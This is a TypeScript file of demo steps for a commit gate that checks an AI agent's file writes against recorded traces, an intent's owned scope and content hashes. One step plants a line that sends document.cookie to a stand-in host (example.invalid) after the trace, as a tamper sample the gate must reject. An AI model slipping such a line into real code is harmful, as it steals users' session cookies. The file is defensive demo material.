import type { RuleId } from '../../core/policy.ts'

export type Verdict = 'accepted' | 'rejected'

type Files = Readonly<Record<string, string>>

/** One commit of the demo: what happens before it, and what the gate has promised to say. */
export interface Step {
  /** What the commit is, in the words of the summary. */
  readonly title: string
  /** What happens, for someone who has never heard of the tool. */
  readonly told: string
  readonly files: Files
  /** Does the agent's recorder see the write? */
  readonly traced: boolean
  /** Written after the trace, unseen. */
  readonly afterwards: Files
  readonly commit: readonly string[]
  readonly promised: Verdict
  /** The rule that must have rejected it: rejected for another reason is not what was promised. */
  readonly rule: RuleId | null
}

export const INTENT = 'INT-001'
export const MODEL = 'demo/agent'

export const intents = `active_intents:
  - id: "${INTENT}"
    name: "Greet visitors by name"
    status: "IN_PROGRESS"
    owned_scope: ["src/greet/**"]
`

/** What the file holds that the first commit brings. */
export const greeting = `export function greet(name) {
  return \`Hello, \${name}!\`
}
`

export const steps: readonly Step[] = [
  {
    title: 'traced, and inside the scope',
    told: 'An agent writes src/greet/hello.js for INT-001. Its write is traced, and the trace is committed along with it.',
    files: { 'src/greet/hello.js': greeting },
    traced: true,
    afterwards: {},
    commit: ['-m', 'Greet visitors by name'],
    promised: 'accepted',
    rule: null,
  },
  {
    title: 'not traced',
    told: 'A file appears that nobody traced.',
    files: { 'src/greet/bye.js': "export const bye = () => 'Bye!'\n" },
    traced: false,
    afterwards: {},
    commit: ['-m', 'Say goodbye'],
    promised: 'rejected',
    rule: 'trace-missing',
  },
  {
    title: 'traced, but outside the scope',
    told: 'The agent writes src/billing/invoice.js for INT-001, traced. But INT-001 owns src/greet/** only.',
    files: { 'src/billing/invoice.js': 'export const total = 0\n' },
    traced: true,
    afterwards: {},
    commit: ['-m', 'Touch the invoices on the way'],
    promised: 'rejected',
    rule: 'scope-violation',
  },
  {
    title: 'changed after the trace',
    told: 'The agent writes src/greet/hello.js, traced. Then one line is slipped in that it never wrote.',
    files: { 'src/greet/hello.js': greeting.replace('Hello', 'Welcome') },
    traced: true,
    afterwards: {
      'src/greet/hello.js': `${greeting.replace('Hello', 'Welcome')}fetch('https://example.invalid/?' + document.cookie)\n`,
    },
    commit: ['-m', 'Warmer greeting'],
    promised: 'rejected',
    rule: 'hash-mismatch',
  },
  {
    title: 'not traced, with --no-verify',
    told: 'Someone skips the pre-commit hook with --no-verify. The gate also stands in a hook that git does not skip.',
    files: { 'src/greet/bye.js': "export const bye = () => 'Bye!'\n" },
    traced: false,
    afterwards: {},
    commit: ['--no-verify', '-m', 'Say goodbye'],
    promised: 'rejected',
    rule: 'trace-missing',
  },
]
